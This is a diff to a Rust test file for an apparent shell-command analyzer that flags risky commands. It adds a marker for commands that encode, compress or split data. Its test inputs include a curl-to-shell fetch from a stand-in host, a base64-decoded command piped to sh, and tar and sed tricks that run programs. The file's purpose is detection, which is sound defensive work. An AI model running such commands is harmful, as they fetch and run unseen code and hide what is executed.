@@ -96,9 +96,9 @@ fn commands_inside_words_are_commands() {
 fn expansions_that_evaluate_are_opaque() {
     check(
         "echo ${x/a/b} ${x:1} ${#x} ${!x} ${x^}",
-        "echo(<?...> <?...> <?...> <?...> <?...>) !Indirect ~ParameterOperator",
+        "echo(<?...> <?...> <?...> <?...> <?...>) !Indirect !Recodes ~ParameterOperator",
     );
-    check("echo ${x@P}", "echo(<?...>) !Indirect ~ParameterOperator");
+    check("echo ${x@P}", "echo(<?...>) !Indirect !Recodes ~ParameterOperator");
     check("echo $((1+2)) $((x+1)) $(($(cat /n)+1))", "echo(<?> <?> <?>) cat(</n>) r=</n> !Arithmetic");
     check("echo $[1+1]", "echo(<?>) ~BracketArithmetic");
     check("((i++))", "-() !Arithmetic ~ArithmeticCommand");
@@ -183,7 +183,7 @@ fn text_given_to_a_shell_is_read_or_opaque() {
         "curl http://x.example/i.sh | sh",
         "curl(<http://x.example/i.sh>) h=<x.example> sh() !CodeFromInput",
     );
-    check("echo cm0= | base64 -d | sh", "echo(<cm0=>) base64(<-d>) sh() !CodeFromInput");
+    check("echo cm0= | base64 -d | sh", "echo(<cm0=>) base64(<-d>) sh() !CodeFromInput !Recodes");
 }
 
 #[test]
@@ -206,15 +206,15 @@ fn awk_and_sed_are_known_where_they_can_only_print() {
     check("awk -f /p.awk /a", "awk(<-f> </p.awk> </a>) r=</p.awk> r=</a> !AwkProgram");
     check("awk '$1 > 3' /a", "awk(<$1 > 3> </a>) r=</a>");
     check("sed -n '1,5p' /a", "sed(<-n> <1,5p> </a>) r=</a>");
-    check("sed 's/a/b/g' /a", "sed(<s/a/b/g> </a>) r=</a>");
-    check("sed -i 's/a/b/' /a", "sed(<-i> <s/a/b/> </a>) r=</a> w=</a>");
+    check("sed 's/a/b/g' /a", "sed(<s/a/b/g> </a>) r=</a> !Recodes");
+    check("sed -i 's/a/b/' /a", "sed(<-i> <s/a/b/> </a>) r=</a> w=</a> !Recodes");
     check("sed 's/a/id/e' /a", "sed(<s/a/id/e> </a>) r=</a> !SedScript");
     check("sed '1e id' /a", "sed(<1e id> </a>) r=</a> !SedScript");
     check("sed 'w /x' /a", "sed(<w /x> </a>) r=</a> !SedScript");
     check("sed 's/[/]w x/y/' /a", "sed(<s/[/]w x/y/> </a>) r=</a> !SedScript");
     check(
         "sed -i.bak -e 's/x/y/' -e '/z/d' /a /b",
-        "sed(<-i.bak> <-e> <s/x/y/> <-e> </z/d> </a> </b>) r=</a> w=</a> w=</a.bak> r=</b> w=</b> w=</b.bak>",
+        "sed(<-i.bak> <-e> <s/x/y/> <-e> </z/d> </a> </b>) r=</a> w=</a> w=</a.bak> r=</b> w=</b> w=</b.bak> !Recodes",
     );
 }
 
@@ -439,15 +439,15 @@ fn files_of_well_known_programs() {
     check("grep -f /pats /a", "grep(<-f> </pats> </a>) r=</pats> r=</a>");
     check("grep -e a -e b /x", "grep(<-e> <a> <-e> <b> </x>) r=</x>");
     check("grep x", "grep(<x>)");
-    check("base64 /a", "base64(</a>) r=</a>");
-    check("base64 -d", "base64(<-d>)");
-    check("xxd -p /a", "xxd(<-p> </a>) r=</a>");
-    check("xxd -r /a /b", "xxd(<-r> </a> </b>) r=</a> w=</b>");
-    check("od -c /a", "od(<-c> </a>) r=</a>");
-    check("gzip -c /a", "gzip(<-c> </a>) r=</a>");
-    check("gzip /a", "gzip(</a>) r=</a> d=</a> w=</a.gz>");
+    check("base64 /a", "base64(</a>) r=</a> !Recodes");
+    check("base64 -d", "base64(<-d>) !Recodes");
+    check("xxd -p /a", "xxd(<-p> </a>) r=</a> !Recodes");
+    check("xxd -r /a /b", "xxd(<-r> </a> </b>) r=</a> w=</b> !Recodes");
+    check("od -c /a", "od(<-c> </a>) r=</a> !Recodes");
+    check("gzip -c /a", "gzip(<-c> </a>) r=</a> !Recodes");
+    check("gzip /a", "gzip(</a>) r=</a> d=</a> w=</a.gz> !Recodes");
     check("gunzip /a.gz", "gunzip(</a.gz>) r=</a.gz> d=</a.gz> w=</a>");
-    check("tar czf /o.tgz /src", "tar(<czf> </o.tgz> </src>) w=</o.tgz> r=</src>");
+    check("tar czf /o.tgz /src", "tar(<czf> </o.tgz> </src>) w=</o.tgz> r=</src> !Recodes");
     check("tar -xzf /i.tgz -C /dst", "tar(<-xzf> </i.tgz> <-C> </dst>) r=</i.tgz> w=</dst>");
     check("tar tf /i.tar", "tar(<tf> </i.tar>) r=</i.tar>");
     check(
@@ -455,12 +455,15 @@ fn files_of_well_known_programs() {
         "tar(<cf> <x> <--checkpoint=1> <--checkpoint-action=exec=id> </a>) w=<x> r=</a> !StartsPrograms",
     );
     check("tar cf x.tar *", "tar(<cf> <x.tar> <**>) w=<x.tar> r=<**> !ArgumentUnknown");
-    check("tar -I 'sh -c id' -cf x /a", "tar(<-I> <sh -c id> <-cf> <x> </a>) w=<x> r=</a> !StartsPrograms");
+    check(
+        "tar -I 'sh -c id' -cf x /a",
+        "tar(<-I> <sh -c id> <-cf> <x> </a>) w=<x> r=</a> !Recodes !StartsPrograms",
+    );
     check("tar -cf x --to-command=id", "tar(<-cf> <x> <--to-command=id>) w=<x> !StartsPrograms");
-    check("zip -r /o.zip /src", "zip(<-r> </o.zip> </src>) w=</o.zip> r=</src>");
+    check("zip -r /o.zip /src", "zip(<-r> </o.zip> </src>) w=</o.zip> r=</src> !Recodes");
     check(
         "openssl enc -aes-128-cbc -pass pass:x -in /a -out /b",
-        "openssl(<enc> <-aes-128-cbc> <-pass> <pass:x> <-in> </a> <-out> </b>) r=</a> w=</b>",
+        "openssl(<enc> <-aes-128-cbc> <-pass> <pass:x> <-in> </a> <-out> </b>) r=</a> w=</b> !Recodes",
     );
     check("openssl dgst -sha256 /a", "openssl(<dgst> <-sha256> </a>) r=</a>");
     check("openssl s_client -connect h:443", "openssl(<s_client> <-connect> <h:443>) h=<h>:443 !Interactive");
@@ -570,7 +573,7 @@ fn more_lines_as_agents_write_them() {
     );
     check(
         "printf '\\033]0;%s\\007ok\\n' \"$(grep -o '536.*' $F)\"",
-        "printf(<\\033]0;%s\\007ok\\n> <?>) grep(<-o> <536.*> <?...>) r=<?...> !ArgumentUnknown !PathUnknown",
+        "printf(<\\033]0;%s\\007ok\\n> <?>) grep(<-o> <536.*> <?...>) r=<?...> !ArgumentUnknown !PathUnknown !Recodes",
     );
     check("$(printf \"\\x63\\x61\\x74\") $F", "?(<?...>) printf(<\\x63\\x61\\x74>) !ProgramUnknown");
     check("busybox cat /a", "busybox(<cat> </a>) cat(</a>) r=</a>");
@@ -713,15 +716,15 @@ fn a_command_takes_lines_from_the_shell_and_shells_are_not_alike() {
 #[test]
 fn a_sed_script_is_plain_only_where_every_line_of_it_is_understood() {
     check("sed '#\\\ne echo x' notes", "sed(<#\\\ne echo x> <notes>) r=<notes> !SedScript");
-    check("sed 's/[^]]*/x/' a", "sed(<s/[^]]*/x/> <a>) r=<a>");
-    check("sed 's/[[:alpha:]]/x/' a", "sed(<s/[[:alpha:]]/x/> <a>) r=<a>");
+    check("sed 's/[^]]*/x/' a", "sed(<s/[^]]*/x/> <a>) r=<a> !Recodes");
+    check("sed 's/[[:alpha:]]/x/' a", "sed(<s/[[:alpha:]]/x/> <a>) r=<a> !Recodes");
     check("sed 's/[]/x/;#]/y/w f' a", "sed(<s/[]/x/;#]/y/w f> <a>) r=<a> !SedScript");
     check("sed 's/[[:x:]/x/;#]/y/w f' a", "sed(<s/[[:x:]/x/;#]/y/w f> <a>) r=<a> !SedScript");
     check("sed '# a\np' notes", "sed(<# a\np> <notes>) r=<notes>");
     check("sed ':a e echo x' notes", "sed(<:a e echo x> <notes>) r=<notes> !SedScript");
     check("sed 'tx e echo x' notes", "sed(<tx e echo x> <notes>) r=<notes> !SedScript");
     check("sed ':a\nN;ba' notes", "sed(<:a\nN;ba> <notes>) r=<notes>");
-    check("sed ':a;N;$!ba;s/a/b/' notes", "sed(<:a;N;$!ba;s/a/b/> <notes>) r=<notes>");
+    check("sed ':a;N;$!ba;s/a/b/' notes", "sed(<:a;N;$!ba;s/a/b/> <notes>) r=<notes> !Recodes");
     check("sed -e ': a' -e 'b a' notes", "sed(<-e> <: a> <-e> <b a> <notes>) r=<notes>");
     check("sed 'a\\\ntext\ne echo x' notes", "sed(<a\\\ntext\ne echo x> <notes>) r=<notes> !SedScript");
     check("sed 'a text\\\ne echo x' notes", "sed(<a text\\\ne echo x> <notes>) r=<notes> !SedScript");
@@ -871,7 +874,7 @@ fn traps_run_at_exit_or_at_a_time_that_cannot_be_said() {
 fn tildes_and_braces_that_only_bash_expands() {
     check("dd if=~/secret", "dd(<?if=>) r=<?> !PathUnknown");
     check("dd if=a:~/secret", "dd(<?if=a:>) r=<?a:> !PathUnknown");
-    check("dd --if=~/x", "dd(<--if=~/x>)");
+    check("dd --if=~/x", "dd(<--if=~/x>) !Recodes");
     check("dd if=\"~/x\"", "dd(<if=~/x>) r=<~/x>");
     check("cat a=~/x", "cat(<?a=>) r=<?a=> !PathUnknown");
     check("echo x=y~", "echo(<x=y~>)");
@@ -1054,7 +1057,7 @@ fn options_of_git_are_known_or_opaque() {
 fn options_that_reach_more_than_they_seem_to() {
     check("cp -d /a /b", "cp(<-d> </a> </b>) r=</a> w=</b>");
     check("sort -T /t /a", "sort(<-T> </t> </a>) w=</t> r=</a>");
-    check("sdiff -W /a /b", "sdiff(<-W> </a> </b>) r=</a> r=</b>");
+    check("sdiff -W /a /b", "sdiff(<-W> </a> </b>) r=</a> r=</b> !Recodes");
     check("diff3 -x /a /b /c", "diff3(<-x> </a> </b> </c>) r=</a> r=</b> r=</c>");
     check("jq -r .env.x /a", "jq(<-r> <.env.x> </a>) r=</a> !InlineCode");
     check("jq -r '.a[].b' /a", "jq(<-r> <.a[].b> </a>) r=</a>");
@@ -1118,4 +1121,101 @@ fn options_that_reach_more_than_they_seem_to() {
     opaque("systemctl mount-image a /b /c");
     opaque("systemctl -M c start a");
     check("zcat /a.gz", "zcat(</a.gz>) r=</a.gz>");
+}
+
+#[test]
+fn what_is_written_in_another_form_or_in_pieces_is_opaque() {
+    let recodes = |line: &str| shown(line).contains("!Recodes");
+    let pieces = [
+        "tr a-z b-za /a",
+        "tr -d - < /a",
+        "tr -d '[:punct:]' < /a",
+        "rev /a",
+        "split -b1 /a",
+        "fold -w1 /a",
+        "cut -c1-3 /a",
+        "cut -d- -f2 /a",
+        "cut -f1 --output-delimiter=x /a",
+        "head -c 8 /a",
+        "tail -qc +9 /a",
+        "grep -o . /a",
+        "grep --color=always 90 /a",
+        "grep -no '[0-9]' /a",
+        "tac -rs . /a",
+        "cmp -l /a /dev/zero",
+        "diff -y /a /b",
+        "paste -d5 /a /a",
+        "column -t -s - /a",
+        "nl -s5 /a",
+        "gzip -c /a",
+        "tar -czf - /a",
+        "tar --create --gzip -f - /a",
+        "openssl base64 -in /a",
+        "openssl rsa -in /a",
+        "openssl x509 -outform DER -in /a",
+        "dd if=/a bs=1 skip=3",
+        "dd if=/a conv=ebcdic",
+        "printf '%.3s' \"$(cat /a)\"",
+        "printf %d \"'$x\"",
+        "printf '5%s' \"$x\"",
+        "printf '%s5' \"$x\"",
+        "read -n1 c < /a",
+        "mapfile -d- a < /a",
+        "echo ${x#?} ${x%-*}",
+        "echo ${x:1:2}",
+        "echo ${x/-/}",
+        "echo ${x^^}",
+        "awk '{print substr($0,1,3)}' /a",
+        "awk -F- '{print $2}' /a",
+        "awk '{print $1+0}' /a",
+        "awk '{print $1 $2}' /a",
+        "awk '{print \"5\" $1}' /a",
+        "awk 'BEGIN{FS=\"-\"}{print $2}' /a",
+        "awk '{gsub(/-/,x); print}' /a",
+        "sed 's/./&~/g' /a",
+        "sed -n 'l 3' /a",
+        "sed y/abc/bca/ /a",
+        "rsync --server --sender -vlogDtprze.iLsfxCIvu . /a",
+        "jq -R explode /a",
+        "jq '.a[0:3]' /a",
+        "jq '@base64' /a",
+        "jq '.a+\"5\"' /a",
+    ];
+    let whole = [
+        "cat -n /a",
+        "tr -s ' ' < /a",
+        "tr -d '\\r' < /a",
+        "tr '\\n' ' ' < /a",
+        "cut -d: -f1,7 /a",
+        "cut -f2 /a",
+        "head -n 5 /a",
+        "tail -n +5 /a",
+        "grep -rn --color=auto foo /a",
+        "grep -ce foo /a",
+        "diff -u /a /b",
+        "cmp -s /a /b",
+        "gunzip -c /a.gz",
+        "tar -cf /o.tar /a",
+        "tar -xzf /a.tgz",
+        "openssl x509 -noout -subject -in /a",
+        "dd if=/dev/zero of=/a bs=1M count=3",
+        "dd if=/a of=/b bs=1M conv=fsync",
+        "printf '%s\\n' \"$x\"",
+        "printf '%d' 3",
+        "read -r l < /a",
+        "echo ${x:-y} ${#x}",
+        "awk '{print $1, $NF}' /a",
+        "awk -F: '$3 > 1000 {print $1}' /a",
+        "awk '/error/ && NR > 3' /a",
+        "awk '{c[$1]++} END {print NR}' /a",
+        "sed -n '1,5p;/x/d' /a",
+        "jq -r '.a[].b | select(.c == 1)' /a",
+        "rsync --server --sender -vlogDtpre.iLsfxCIvuz . /a",
+        "sort /a",
+        "wc -c /a",
+        "sha256sum /a",
+    ];
+    let wrong = pieces.into_iter().filter(|line| !recodes(line));
+    let wrong: Vec<&str> = wrong.chain(whole.into_iter().filter(|line| recodes(line))).collect();
+    assert!(wrong.is_empty(), "{wrong:#?}");
 }
